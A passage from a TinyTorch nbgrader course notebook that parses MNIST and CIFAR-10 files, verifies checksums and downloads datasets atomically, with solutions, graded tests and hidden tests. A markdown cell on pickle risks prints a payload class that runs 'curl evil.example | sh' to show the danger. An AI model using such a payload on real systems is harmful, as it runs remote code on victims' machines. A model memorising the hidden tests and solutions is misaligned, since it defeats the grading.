        raise ValueError(f"{path.name} is not a complete gzip file ({e}). "
                         f"Delete it and download it again.") from None


def read_idx(path: str | Path, magic: int | None = None) -> np.ndarray:
    """Read an idx file of unsigned bytes (gzipped if the name ends in .gz) as a uint8 array.

    magic: the expected magic number (2051 for MNIST images, 2049 for labels), or None for any.
    Returns a read-only array viewing the file's bytes, shaped by the header's sizes.

    HINTS:
    - data[0:2] must be b"\\x00\\x00" and data[2] the type code IDX_UBYTE; data[3] is D.
    - The sizes: np.frombuffer(data, dtype=">u4", count=D, offset=4) (big-endian uint32).
    - The file must hold exactly 4 + 4*D + prod(sizes) bytes.
    - np.frombuffer(data, dtype=np.uint8, offset=4 + 4*D).reshape(sizes) is the result.
    Every problem raises ValueError naming the file.
    """
    path = Path(path)
    data = _read_maybe_gzip(path)
    ### BEGIN SOLUTION
    if len(data) < 4 or data[0:2] != b"\x00\x00" or data[2] != IDX_UBYTE:
        raise ValueError(f"{path.name} is not an idx file of unsigned bytes: it starts with "
                         f"{data[:4].hex(' ')}, expected 00 00 08 <dimensions>.")
    ndim = data[3]
    found = int.from_bytes(data[0:4], "big")
    if magic is not None and found != magic:
        raise ValueError(f"{path.name} has magic number {found}, expected {magic} "
                         f"(2051 = images, 2049 = labels): is it the right file?")
    header = 4 + 4 * ndim
    if len(data) < header:
        raise ValueError(f"{path.name} ends inside its header ({len(data)} bytes).")
    sizes = tuple(int(s) for s in np.frombuffer(data, dtype=">u4", count=ndim, offset=4))
    expected = header + int(np.prod(sizes, dtype=np.int64))
    if len(data) != expected:
        raise ValueError(f"{path.name}: the header promises sizes {sizes}, {expected:,} bytes in all, "
                         f"but the file has {len(data):,} bytes. It is truncated or not an idx file.")
    return np.frombuffer(data, dtype=np.uint8, offset=header).reshape(sizes)
    ### END SOLUTION

# %% nbgrader={"grade": true, "grade_id": "test-read-idx", "locked": true, "points": 8, "schema_version": 3, "solution": false}
def test_unit_read_idx():
    import pytest

    images = np.random.default_rng(0).integers(0, 256, size=(5, 28, 28), dtype=np.uint8)
    labels = np.array([3, 1, 4, 1, 5], dtype=np.uint8)
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        (tmp / "images.gz").write_bytes(gzip.compress(idx_bytes(images)))
        (tmp / "labels").write_bytes(idx_bytes(labels))
        out = read_idx(tmp / "images.gz", magic=2051)
        assert out.shape == (5, 28, 28) and out.dtype == np.uint8
        np.testing.assert_array_equal(out, images)
        np.testing.assert_array_equal(read_idx(tmp / "labels", magic=2049), labels)

        # Every error names the file, and the facts: the magic numbers, the promised sizes.
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "images.gz", magic=2049)
        assert all(fact in str(err.value) for fact in ("images.gz", "2051", "2049"))
        (tmp / "short").write_bytes(idx_bytes(images)[:-10])
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "short")
        assert "short" in str(err.value) and "(5, 28, 28)" in str(err.value)
        (tmp / "greeting.txt").write_bytes(b"hello, world")
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "greeting.txt")
        assert "greeting.txt" in str(err.value)
        (tmp / "cut.gz").write_bytes(gzip.compress(idx_bytes(images))[:-20])
        with pytest.raises(ValueError, match="cut.gz is not a complete gzip file"):
            read_idx(tmp / "cut.gz")

        ### BEGIN HIDDEN TESTS
        (tmp / "one_byte_too_many").write_bytes(idx_bytes(labels) + b"\x00")
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "one_byte_too_many")
        assert "one_byte_too_many" in str(err.value)
        (tmp / "floats").write_bytes(bytes([0, 0, 0x0D, 1]) + b"\x00\x00\x00\x01" + b"\x00" * 4)
        with pytest.raises(ValueError) as err:                   # type code 0x0D: float32, not bytes
            read_idx(tmp / "floats")
        assert "floats" in str(err.value)
        ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_read_idx()

# %% [markdown]
# ### The CIFAR-10 binary format, and why we never unpickle
#
# CIFAR-10 (Krizhevsky, 2009) is published in three versions. The "Python version" that most
# tutorials use is six **pickle** files. Loading a pickle means running a small program that
# the file contains: `pickle.load` calls whatever function the file names, with arguments the
# file chooses. This is a complete pickle:
#
# ```python
# class Payload:
#     def __reduce__(self):
#         return (os.system, ("curl evil.example | sh",))   # pickle.load() runs this
# ```
#
# So a tampered or mis-served "dataset" can run any command on your machine when you load it.
# A checksum verified *before* loading makes a pickle safe in practice (only the published file
# passes), but one forgotten check is enough. The same problem is why `torch.load` now defaults
# to `weights_only=True` and why model hubs moved to `safetensors`. A data format should be
# **data**: bytes that a parser reads, never code that an interpreter runs.
#
# So we use CIFAR-10's **binary version**, whose files hold plain records:
#
# ```
#   one record = 3 073 bytes:  [label] [1024 red] [1024 green] [1024 blue]
#                               0..9    each plane 32×32, row-major
#   data_batch_1.bin … data_batch_5.bin: 10 000 records each (training)
#   test_batch.bin: 10 000 records (test)
# ```
#
# Parsing is, again, a view and a reshape: `(N, 3073)` records, column 0 is the label, columns
# 1..3072 reshape to `(N, 3, 32, 32)`, already channels-first. TinyTorch's own checkpoints follow
# the same rule: `np.savez` without pickle.

# %% nbgrader={"grade": false, "grade_id": "read-cifar", "locked": false, "schema_version": 3, "solution": true}
#| export
CIFAR10_RECORD = 1 + 3 * 32 * 32
CIFAR10_CLASSES = ["airplane", "automobile", "bird", "cat", "deer", "dog", "frog", "horse", "ship", "truck"]


def read_cifar10_bin(path: str | Path) -> tuple[np.ndarray, np.ndarray]:
    """Read a CIFAR-10 binary batch file: (images uint8 (N, 3, 32, 32), labels int64 (N,)).

    Every record is 1 label byte (0-9) and 3 072 pixel bytes (red, green, blue planes of 32×32).

    HINTS:
    - The file size must be a positive multiple of CIFAR10_RECORD; raise ValueError otherwise.
    - records = np.frombuffer(data, np.uint8).reshape(-1, CIFAR10_RECORD)
    - Labels above 9 mean a wrong or corrupted file: ValueError.
    - np.ascontiguousarray(records[:, 1:]).reshape(-1, 3, 32, 32) gives the images, contiguous
      (so that gathering a batch later reads memory in order).
    """
    path = Path(path)
    data = path.read_bytes()
    ### BEGIN SOLUTION
    if not data or len(data) % CIFAR10_RECORD:
        raise ValueError(f"{path.name} has {len(data):,} bytes, which is not a whole number of "
                         f"CIFAR-10 records ({CIFAR10_RECORD} bytes each: 1 label + 3 072 pixels).")
    records = np.frombuffer(data, dtype=np.uint8).reshape(-1, CIFAR10_RECORD)
    labels = records[:, 0].astype(np.int64)
    if labels.max() > 9:
        raise ValueError(f"{path.name} has label {labels.max()} (CIFAR-10 labels are 0-9): it is not a CIFAR-10 batch.")
    images = np.ascontiguousarray(records[:, 1:]).reshape(-1, 3, 32, 32)
    return images, labels
    ### END SOLUTION

# %% nbgrader={"grade": true, "grade_id": "test-read-cifar", "locked": true, "points": 6, "schema_version": 3, "solution": false}
def test_unit_read_cifar10_bin():
    import pytest

    rng = np.random.default_rng(0)
    images = rng.integers(0, 256, size=(4, 3, 32, 32), dtype=np.uint8)
    labels = np.array([9, 0, 3, 3], dtype=np.uint8)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "batch.bin"
        path.write_bytes(cifar_bytes(images, labels))
        got_images, got_labels = read_cifar10_bin(path)
        assert got_images.shape == (4, 3, 32, 32) and got_images.dtype == np.uint8
        assert got_labels.dtype == np.int64 and got_labels.tolist() == [9, 0, 3, 3]
        np.testing.assert_array_equal(got_images, images)
        assert got_images.flags.c_contiguous
        # The red plane of record 0 starts right after its label byte.
        raw = path.read_bytes()
        assert raw[1:33] == images[0, 0, 0].tobytes()

        path.write_bytes(raw[:-1])
        with pytest.raises(ValueError) as err:                      # one byte short of 4 records
            read_cifar10_bin(path)
        assert "batch.bin" in str(err.value)
        path.write_bytes(cifar_bytes(images, np.array([1, 2, 3, 200])))
        with pytest.raises(ValueError) as err:
            read_cifar10_bin(path)
        assert "batch.bin" in str(err.value) and "200" in str(err.value)  # the file, the impossible label


if __name__ == "__main__":
    test_unit_read_cifar10_bin()

# %% [markdown]
# ## 7. Trust, but verify: checksums
#
# A **checksum** (a cryptographic hash of the file's bytes) is a fingerprint: change one bit
# anywhere and the fingerprint changes completely. The dataset's authors (or a trusted
# project) publish the fingerprint of each file; we store those values **in the code**, in one
# registry, and compare before we parse anything:
#
# ```
#   CHECKSUMS["train-images-idx3-ubyte.gz"] = "sha256:440fcabf…3609"
#
#   file on disk ──hash in 1 MiB chunks──► "sha256:440fcabf…3609"  ══ equal? ══► parse it
#                                                                  ≠          ► ChecksumError: name,
#                                                                               expected, actual
# ```
#
# What a checksum catches: a download cut off halfway, a mirror that serves an HTML error page
# with status 200, a disk error, a file replaced by a different version, a tampered file.
#
# The entries say which algorithm made them. We use what was published: sha256 for MNIST,
# **sha1** for the CIFAR-10 binary files (the values MXNet pins) and **md5** for the CIFAR
# archive (the value on the authors' page). md5 and sha1 are broken *against an attacker who
# crafts collisions*, but they still detect every accidental corruption; prefer sha256 when you
# publish data yourself. Hashing costs about as much as reading the file once (sha256 of the
# 9.9 MB MNIST training images: about 20 ms here), and we hash in 1 MiB chunks as we read, and
# while downloading, so the whole file never needs to be in memory for it.

# %% nbgrader={"grade": false, "grade_id": "checksums", "locked": false, "schema_version": 3, "solution": true}
#| export
# The one source of truth for what a good file is: file name -> "algorithm:hex digest".
CHECKSUMS: dict[str, str] = {
    # MNIST: the original idx files (sha256 of the published .gz files).
    "train-images-idx3-ubyte.gz": "sha256:440fcabf73cc546fa21475e81ea370265605f56be210a4024d2ca8f203523609",
    "train-labels-idx1-ubyte.gz": "sha256:3552534a0a558bbed6aed32b30c495cca23d567ec52cac8be1a0730e8010255c",
    "t10k-images-idx3-ubyte.gz": "sha256:8d422c7b0a1c1c79245a5bcf07fe86e33eeafee792b84584aec276f5a2dbc4e6",
    "t10k-labels-idx1-ubyte.gz": "sha256:f7ae60f92e00ec6debd23a6088c31dbd2371eca3ffa0defaefb259924204aec6",
    # CIFAR-10, binary version: the archive (md5 from the authors' page) and the files inside it
    # (sha1, as pinned by MXNet's gluon CIFAR10).
    "cifar-10-binary.tar.gz": "md5:c32a1d4ab5d03f1284b67883e8d87530",
    "data_batch_1.bin": "sha1:aadd24acce27caa71bf4b10992e9e7b2d74c2540",
    "data_batch_2.bin": "sha1:c0ba65cce70568cd57b4e03e9ac8d2a5367c1795",
    "data_batch_3.bin": "sha1:1dd00a74ab1d17a6e7d73e185b69dbf31242f295",
    "data_batch_4.bin": "sha1:aab85764eb3584312d3c7f65fd2fd016e36a258e",
    "data_batch_5.bin": "sha1:26e2849e66a845b7f1e4614ae70f4889ae604628",
    "test_batch.bin": "sha1:67eb016db431130d61cd03c7ad570b013799c88c",
}

HASH_CHUNK = 1 << 20  # read and hash 1 MiB at a time: constant memory for any file size


class ChecksumError(ValueError):
    """A file whose checksum is not the published one. It is never parsed."""

    def __init__(self, name: str, expected: str, actual: str, hint: str = "") -> None:
        self.name, self.expected, self.actual = name, expected, actual
        super().__init__(f"{name} failed its checksum: expected {expected}, got {actual}. "
                         + (hint or "The file is corrupted or incomplete, so it was not used."))


def _split_checksum(expected: str) -> tuple[str, str]:
    """("sha256", "hexdigest") from "sha256:hexdigest", checking that hashlib knows the algorithm."""
    algorithm, _, digest = expected.partition(":")
    if not digest or algorithm not in hashlib.algorithms_available:
        raise ValueError(f"A checksum must look like 'sha256:<hex digest>', got {expected!r}.")
    return algorithm, digest.lower()


def file_checksum(path: str | Path, algorithm: str = "sha256") -> str:
    """The checksum of a file as "algorithm:hexdigest", reading it in HASH_CHUNK pieces.

    HINT: hashlib.new(algorithm); update() it with each chunk of f.read(HASH_CHUNK).
    """
    ### BEGIN SOLUTION
    hasher = hashlib.new(algorithm)
    with open(path, "rb") as f:
        while chunk := f.read(HASH_CHUNK):
            hasher.update(chunk)
    return f"{algorithm}:{hasher.hexdigest()}"
    ### END SOLUTION


def verify_checksum(path: str | Path, expected: str, hint: str = "") -> Path:
    """Return `path` if its checksum is `expected` ("algorithm:hex"); raise ChecksumError otherwise."""
    path = Path(path)
    algorithm, digest = _split_checksum(expected)
    ### BEGIN SOLUTION
    actual = file_checksum(path, algorithm)
    if actual != f"{algorithm}:{digest}":
        raise ChecksumError(path.name, expected, actual, hint)
    return path
    ### END SOLUTION

# %% nbgrader={"grade": true, "grade_id": "test-checksums", "locked": true, "points": 6, "schema_version": 3, "solution": false}
def test_unit_checksums():
    import pytest

    data = np.random.default_rng(0).bytes(3 * HASH_CHUNK + 17)  # several chunks and a remainder
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "blob.bin"
        path.write_bytes(data)
        assert file_checksum(path) == "sha256:" + hashlib.sha256(data).hexdigest()
        assert file_checksum(path, "md5") == "md5:" + hashlib.md5(data).hexdigest()
        good = "sha1:" + hashlib.sha1(data).hexdigest()
        assert verify_checksum(path, good) == path
        assert verify_checksum(path, good.upper().replace("SHA1", "sha1")) == path  # hex in any case

        path.write_bytes(data[:-1] + b"\x00")  # one byte changed
        with pytest.raises(ChecksumError, match="blob.bin failed its checksum: expected sha1:") as info:
            verify_checksum(path, good)
        assert info.value.expected == good and info.value.actual == file_checksum(path, "sha1")
        with pytest.raises(ValueError, match="must look like 'sha256:<hex digest>'"):
            verify_checksum(path, "deadbeef")
    # Every registry entry names an algorithm hashlib has.
    for expected in CHECKSUMS.values():
        _split_checksum(expected)


if __name__ == "__main__":
    test_unit_checksums()

# %% [markdown]
# ## 8. Downloads that never leave a broken file
#
# Downloading goes wrong in more ways than it goes right: the server is down, returns 404, is
# slow, closes the connection after 3 of 10 MB, or serves something else with status 200.
# The program can also be killed halfway. The rule that makes all of these harmless:
#
# > **A file appears under its real name only when it is complete and verified.**
#
# ```
#   for each mirror:
#     urlopen(mirror + name) ───► .train-images-idx3-ubyte.gz.k3j9.part    (a temp file, same folder)
#        stream 1 MiB chunks: write, hash, advance the progress bar
#     received == Content-Length?  hash == CHECKSUMS[name]?
#        yes ──► fsync, os.replace(temp, train-images-idx3-ubyte.gz)        atomic: all or nothing
#        no  ──► delete the temp file, remember why, try the next mirror
#   all mirrors failed ──► DownloadError: the file, the folder, every mirror with its reason
# ```
#
# `os.replace` within one folder is **atomic** on POSIX and Windows: other programs see either
# the old state (no file) or the complete new file, never a half-written one. The temp file
# must be in the *same folder* (same file system), or the "rename" becomes a copy, which is not
# atomic. A crash mid-download leaves at most a hidden `.part` file, never a corrupt
# `train-images-idx3-ubyte.gz` that the next run would trust. (We create the temp file with
# `open(name, "xb")` and a random name rather than `tempfile.mkstemp`: mkstemp makes the file
# readable by its owner only, and `os.replace` would carry that into a course's shared data
# folder, locking everyone else out.)
#
# Note the length check: if a server closes the connection early, Python's `http.client`
# does not raise; `read()` simply returns `b""`, as at a normal end. Only comparing the bytes
# received with `Content-Length` (and the checksum) exposes the truncation.
#
# **Mirrors.** Dataset hosts come and go: yann.lecun.com, the original MNIST host, now often
# refuses downloads. So each dataset has a list of base URLs (`MIRRORS`), tried in order; tests
# and users can pass their own with `mirrors=[...]`. `urllib` (standard library) handles
# `http://`, `https://` and `file://`, which the tests below use.

# %% nbgrader={"grade": false, "grade_id": "download-file", "locked": false, "schema_version": 3, "solution": true}
#| export
# Base URLs, tried in order; a file's URL is base + file name.
MIRRORS: dict[str, list[str]] = {
    "mnist": [
        "https://ossci-datasets.s3.amazonaws.com/mnist/",       # torchvision's mirror
        "https://storage.googleapis.com/cvdf-datasets/mnist/",  # TensorFlow's mirror
    ],
    "cifar10": [
        "https://www.cs.toronto.edu/~kriz/",                    # the authors' page
    ],
}

DOWNLOAD_TIMEOUT = 30.0  # seconds without data before a mirror counts as down


class DownloadError(OSError):
    """A file that could not be obtained. `failures` lists (url, reason) for every mirror tried."""

    def __init__(self, message: str, failures: Sequence[tuple[str, str]] = ()) -> None:
        super().__init__(message)
        self.failures = list(failures)


@contextmanager
def _progress(label: str | None, total: int | None) -> Iterator[Callable[[int], None]]:
    """A rich progress bar on stderr, as a function advance(n_bytes); silent when label is None."""
    if label is None:
        yield lambda n: None
        return
    try:
        from rich.console import Console
        from rich.progress import (BarColumn, DownloadColumn, Progress, TextColumn, TimeRemainingColumn,
                                   TransferSpeedColumn)
    except ImportError:  # rich is a TinyTorch dependency, but a bar is not worth a crash
        yield lambda n: None
        return
    columns = (TextColumn("{task.description}"), BarColumn(), DownloadColumn(), TransferSpeedColumn(),
               TimeRemainingColumn())
    with Progress(*columns, console=Console(stderr=True)) as bar:
        task = bar.add_task(label, total=total)
        yield lambda n: bar.advance(task, n)


def _temp_name(destination: Path) -> Path:
    """A hidden name beside `destination` for a file in progress: .name.<random>.part"""
    return destination.with_name(f".{destination.name}.{os.urandom(6).hex()}.part")


def _write_verified(stream: Any, destination: Path, expected: str, total: int | None = None,
                    label: str | None = None) -> Path:
    """Copy `stream` to `destination` atomically, only if it is complete and its checksum is `expected`.

    Writes to a temp file in the destination's folder, hashing as it goes; checks the length
    (when `total` is known) and the checksum; then os.replace. On ANY failure (including
    Ctrl-C) the temp file is deleted and nothing appears under `destination`.

    HINTS:
    - temp = _temp_name(destination) is a hidden, unused name in the same folder.
    - with open(temp, "xb") as out, _progress(label, total) as advance: read stream.read(HASH_CHUNK)
      until it returns b"", writing, hashing and advancing; then out.flush() and os.fsync(out.fileno()).
      ("x" creates the file and fails if it exists; it gets the usual permissions, so a shared
      data folder stays readable by everyone.)
    - A short read: raise DownloadError(f"the connection closed after {received:,} of {total:,} bytes").
    - A wrong checksum: raise ChecksumError(destination.name, expected, actual).
    - try: ... os.replace(temp, destination) ... except BaseException: delete temp; raise
    """
    algorithm, digest = _split_checksum(expected)
    hasher = hashlib.new(algorithm)
    ### BEGIN SOLUTION
    temp = _temp_name(destination)
    received = 0
    try:
        with open(temp, "xb") as out, _progress(label, total) as advance:
            while chunk := stream.read(HASH_CHUNK):
                out.write(chunk)
                hasher.update(chunk)
                received += len(chunk)
                advance(len(chunk))
            out.flush()
            os.fsync(out.fileno())  # the bytes are on disk before the name points at them
        if total is not None and received != total:
            raise DownloadError(f"the connection closed after {received:,} of {total:,} bytes")
        actual = f"{algorithm}:{hasher.hexdigest()}"
        if actual != f"{algorithm}:{digest}":
            raise ChecksumError(destination.name, expected, actual)
        os.replace(temp, destination)  # atomic: the complete, verified file or nothing
    except BaseException:
        Path(temp).unlink(missing_ok=True)
        raise
    return destination
    ### END SOLUTION


def _reason(error: BaseException) -> str:
    reason = getattr(error, "reason", None)  # urllib wraps the real cause (refused, 404, DNS...)
    return str(reason if reason is not None and not isinstance(error, ChecksumError) else error)


def download_file(urls: Sequence[str], destination: str | Path, expected: str, progress: bool = True) -> Path:
    """Download the first URL that works to `destination`, verified against `expected`, atomically.

    Tries the URLs in order; a mirror that is down, returns an error, sends too few bytes or a
    file with the wrong checksum is skipped. Raises DownloadError listing every URL and why it
    failed; nothing is ever left under `destination` unless it is complete and verified.

    HINTS:
    - with urllib.request.urlopen(url, timeout=DOWNLOAD_TIMEOUT) as response: the Content-Length
      header (may be missing) gives `total`; pass label=destination.name only if `progress`.
    - Catch (OSError, ValueError, http.client.HTTPException) per URL: URLError, HTTPError and
      DownloadError are OSErrors, ChecksumError is a ValueError. Record (url, _reason(e)).
    """
    destination = Path(destination)
    failures: list[tuple[str, str]] = []
    ### BEGIN SOLUTION
    for url in urls:
        try:
            with urllib.request.urlopen(url, timeout=DOWNLOAD_TIMEOUT) as response:
                length = response.headers.get("Content-Length")
                total = int(length) if length is not None and length.isdigit() else None
                return _write_verified(response, destination, expected, total,
                                       label=destination.name if progress else None)
        except (OSError, ValueError, http.client.HTTPException) as e:
            failures.append((url, _reason(e)))
    ### END SOLUTION
    tried = "\n".join(f"  {url}: {why}" for url, why in failures) or "  (no URLs given)"
    raise DownloadError(f"Could not download {destination.name}; every mirror failed:\n{tried}", failures)

# %% nbgrader={"grade": true, "grade_id": "test-download-file", "locked": true, "points": 10, "schema_version": 3, "solution": false}
def test_unit_download_file():
    import pytest

    data = np.random.default_rng(1).bytes(2 * HASH_CHUNK + 5)
    good = "sha256:" + hashlib.sha256(data).hexdigest()
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        (tmp / "server").mkdir()
        (tmp / "server" / "blob.bin").write_bytes(data)
        (tmp / "cache").mkdir()
        target = tmp / "cache" / "blob.bin"
        dead = (tmp / "nowhere").as_uri() + "/blob.bin"
        live = (tmp / "server").as_uri() + "/blob.bin"

        # The first mirror is missing; the second one is used.
        assert download_file([dead, live], target, good, progress=False) == target
        assert target.read_bytes() == data
        assert os.listdir(tmp / "cache") == ["blob.bin"]  # no temp files left behind

        # A wrong checksum: an error naming it, and nothing under the real name.
        target.unlink()
        wrong = "sha256:" + "0" * 64
        with pytest.raises(DownloadError, match="blob.bin failed its checksum") as info:
            download_file([live], target, wrong, progress=False)
        assert not target.exists() and os.listdir(tmp / "cache") == []
        assert info.value.failures[0][0] == live

        # Every mirror down: one error listing each URL.
        with pytest.raises(DownloadError, match="every mirror failed") as info:
            download_file([dead, dead + "2"], target, good, progress=False)
        assert [url for url, _ in info.value.failures] == [dead, dead + "2"]
        assert dead in str(info.value) and not target.exists()

    ### BEGIN HIDDEN TESTS
    # A short stream is caught by the length check, and the temp file is removed.
    import io

    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp) / "short.bin"
        with pytest.raises(DownloadError, match="closed after") as err:
            _write_verified(io.BytesIO(b"x" * 10), target, good, total=20)
        assert "10 of 20" in str(err.value)
        assert os.listdir(tmp) == []
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_download_file()

# %% [markdown]
# ## 9. MNIST and CIFAR-10
#
# Everything comes together in two functions:
#
# ```python
# train, test = download_mnist()      # ImageDatasets: 60 000 and 10 000 images (1, 28, 28)
# train, test = download_cifar10()    # 50 000 and 10 000 images (3, 32, 32), 10 class names
# ```
#
# **Where the files live.** The folder is, in order of preference: the `root` argument, the
# environment variable `$TINYTORCH_DATA`, or `~/.cache/tinytorch`. Files keep their canonical
# names under `mnist/` and `cifar10/`, so a folder filled by hand (or by another tool) works:
#
# ```
#   $TINYTORCH_DATA/
#   ├── mnist/     train-images-idx3-ubyte.gz  train-labels-idx1-ubyte.gz
#   │              t10k-images-idx3-ubyte.gz   t10k-labels-idx1-ubyte.gz
#   └── cifar10/   data_batch_1.bin … data_batch_5.bin  test_batch.bin
#                  (cifar-10-binary.tar.gz, if it was downloaded: the six files are extracted from it)
# ```
#
# **For each file:** present → verify its checksum (a mismatch is an error naming the file,
# both checksums and the fix; the file is never parsed and never silently replaced, since it
# may be yours) → absent → download it from the mirrors (verified while downloading) → if
# that fails too, one error says which file is missing, which folder was searched (and why
# that folder), and what every mirror answered. `download=False` never touches the network.
#
# **CIFAR-10** is published as one archive, `cifar-10-binary.tar.gz` (162 MB). When any of the
# six `.bin` files is missing, the archive is obtained the same way (verified with its md5) and
# only the six files we need are extracted, each streamed through `_write_verified` with its
# own sha1. We never call `tar.extractall`: a crafted archive could name a member
# `../../.bashrc`; we choose every destination name ourselves.

# %% nbgrader={"grade": false, "grade_id": "download-datasets", "locked": false, "schema_version": 3, "solution": true}
#| export
MNIST_FILES = {  # split -> (images file, labels file)
    "train": ("train-images-idx3-ubyte.gz", "train-labels-idx1-ubyte.gz"),
    "test": ("t10k-images-idx3-ubyte.gz", "t10k-labels-idx1-ubyte.gz"),
}
CIFAR10_ARCHIVE = "cifar-10-binary.tar.gz"
CIFAR10_FOLDER_IN_ARCHIVE = "cifar-10-batches-bin"
CIFAR10_FILES = {
    "train": [f"data_batch_{k}.bin" for k in range(1, 6)],
    "test": ["test_batch.bin"],
}


def data_root(root: str | Path | None = None) -> Path:
    """The data folder: `root` if given, else $TINYTORCH_DATA, else ~/.cache/tinytorch."""
    if root is not None:
        return Path(root).expanduser()
    from_env = os.environ.get("TINYTORCH_DATA")
    if from_env:
        return Path(from_env).expanduser()
    return Path.home() / ".cache" / "tinytorch"


def _root_origin(root: str | Path | None) -> str:
    if root is not None:
        return "the root argument"
    if os.environ.get("TINYTORCH_DATA"):
        return "$TINYTORCH_DATA"
    return "the default, because $TINYTORCH_DATA is not set"


def _ensure_file(folder: Path, name: str, mirrors: Sequence[str], download: bool, progress: bool,
                 origin: str) -> Path:
    """`folder/name`, verified: checked if present, downloaded if absent, or a clear error."""
    path = folder / name
    if path.exists():
        return verify_checksum(path, CHECKSUMS[name], hint=(
            f"It was not used. If you put it there, check where it came from; otherwise delete "
            f"{path} and run again to download it."))
    failures: list[tuple[str, str]] = []
    if download:
        try:
            folder.mkdir(parents=True, exist_ok=True)
        except OSError as e:
            raise DownloadError(f"Cannot create the data folder {folder} ({e}). Set $TINYTORCH_DATA "
                                f"or pass root= to use another folder.") from None
        urls = [base.rstrip("/") + "/" + name for base in mirrors]
        try:
            return download_file(urls, path, CHECKSUMS[name], progress)
        except DownloadError as e:
            failures = e.failures
    tried = "\n".join(f"    {url}: {why}" for url, why in failures) or "    nothing (download=False)"
    raise DownloadError(
        f"{name} is missing and could not be downloaded.\n"
        f"  looked in: {folder} (from {origin})\n"
        f"  mirrors tried:\n{tried}\n"
        f"Connect to the internet and run again, copy {name} into {folder}, or point "
        f"$TINYTORCH_DATA (or root=) at a folder whose {folder.name}/ holds it.", failures)


def _extract_cifar10(archive: Path, folder: Path, names: Sequence[str]) -> None:
    """Stream the members `names` out of the verified archive, each verified, by names we choose."""
    wanted = {f"{CIFAR10_FOLDER_IN_ARCHIVE}/{name}": name for name in names}
    found: set[str] = set()
    try:
        with tarfile.open(archive, "r:gz") as tar:
            for member in tar:
                if member.name in wanted and member.isfile():
                    with tar.extractfile(member) as stream:
                        _write_verified(stream, folder / wanted[member.name], CHECKSUMS[wanted[member.name]],
                                        total=member.size)
                    found.add(wanted[member.name])
    except (tarfile.TarError, EOFError, zlib.error) as e:
        raise DownloadError(f"{archive} cannot be read as a tar.gz archive ({e}).") from None
    missing = sorted(set(names) - found)
    if missing:
        raise DownloadError(f"{archive.name} has no {', '.join(missing)} under {CIFAR10_FOLDER_IN_ARCHIVE}/.")


def download_mnist(root: str | Path | None = None, download: bool = True, progress: bool = True,
                   mirrors: Sequence[str] | None = None) -> tuple[ImageDataset, ImageDataset]:
    """MNIST as (train, test) ImageDatasets: 60 000 and 10 000 images (1, 28, 28), labels 0-9.

    Files: <root>/mnist/*.gz (root: argument, $TINYTORCH_DATA, ~/.cache/tinytorch), checked
    against CHECKSUMS and downloaded from `mirrors` (default MIRRORS["mnist"]) when missing.

    HINTS (for each split):
    - read_idx(images_path, magic=2051) is (N, 28, 28); read_idx(labels_path, magic=2049) is (N,).
    - Check that the counts agree, that images are 28 × 28 and that labels are < 10 (ValueError).
    - ImageDataset(images[:, None], labels, classes=[str(d) for d in range(10)], name=f"MNIST {split}")
    """
    folder, origin = data_root(root) / "mnist", _root_origin(root)
    bases = MIRRORS["mnist"] if mirrors is None else list(mirrors)
    splits = {}
    for split, names in MNIST_FILES.items():
        paths = [_ensure_file(folder, name, bases, download, progress, origin) for name in names]
        ### BEGIN SOLUTION
        images = read_idx(paths[0], magic=2051)
        labels = read_idx(paths[1], magic=2049)
        if images.shape[1:] != (28, 28) or len(images) != len(labels):
            raise ValueError(f"MNIST {split}: images {images.shape} and labels {labels.shape} do not "
                             f"match (expected (N, 28, 28) and (N,)).")
        if labels.size and labels.max() > 9:
            raise ValueError(f"MNIST {split}: label {labels.max()} found; MNIST labels are 0-9.")
        splits[split] = ImageDataset(images[:, None], labels, classes=[str(d) for d in range(10)],
                                     name=f"MNIST {split}")
        ### END SOLUTION
    return splits["train"], splits["test"]


def download_cifar10(root: str | Path | None = None, download: bool = True, progress: bool = True,
                     mirrors: Sequence[str] | None = None) -> tuple[ImageDataset, ImageDataset]:
    """CIFAR-10 as (train, test) ImageDatasets: 50 000 and 10 000 images (3, 32, 32), 10 classes.

    Files: <root>/cifar10/{data_batch_1..5,test_batch}.bin; when any is missing they are
    extracted from cifar-10-binary.tar.gz (obtained like any other file). Every file is verified.

    HINT: read_cifar10_bin each file of a split and np.concatenate the images and the labels.
    """
    folder, origin = data_root(root) / "cifar10", _root_origin(root)
    bases = MIRRORS["cifar10"] if mirrors is None else list(mirrors)
    names = [name for files in CIFAR10_FILES.values() for name in files]
    missing = [name for name in names if not (folder / name).exists()]
    if missing:
        archive = _ensure_file(folder, CIFAR10_ARCHIVE, bases, download, progress, origin)
        _extract_cifar10(archive, folder, missing)  # verified while extracting
    for name in names:
        if name not in missing:
            _ensure_file(folder, name, bases, download=False, progress=False, origin=origin)
    splits = {}
    for split, files in CIFAR10_FILES.items():
        ### BEGIN SOLUTION
        parts = [read_cifar10_bin(folder / name) for name in files]
        images = np.concatenate([images for images, _ in parts])
        labels = np.concatenate([labels for _, labels in parts])
        splits[split] = ImageDataset(images, labels, classes=CIFAR10_CLASSES, name=f"CIFAR-10 {split}")
        ### END SOLUTION
    return splits["train"], splits["test"]

# %% nbgrader={"grade": true, "grade_id": "test-download-datasets", "locked": true, "points": 12, "schema_version": 3, "solution": false}
def test_unit_download_mnist_and_cifar10():
    import pytest

    rng = np.random.default_rng(0)
    mnist = {}
    for split, (images_name, labels_name), n in [("train", MNIST_FILES["train"], 6), ("test", MNIST_FILES["test"], 3)]:
        mnist[images_name] = gzip.compress(idx_bytes(rng.integers(0, 256, size=(n, 28, 28), dtype=np.uint8)))
        mnist[labels_name] = gzip.compress(idx_bytes(rng.integers(0, 10, size=n, dtype=np.uint8)))
    cifar = {name: cifar_bytes(rng.integers(0, 256, size=(2, 3, 32, 32)), rng.integers(0, 10, size=2))
             for files in CIFAR10_FILES.values() for name in files}

    with tempfile.TemporaryDirectory() as tmp, registered_checksums({**mnist, **cifar}):
        tmp = Path(tmp)
        server = tmp / "server"
        server.mkdir()
        for name, data in mnist.items():
            (server / name).write_bytes(data)

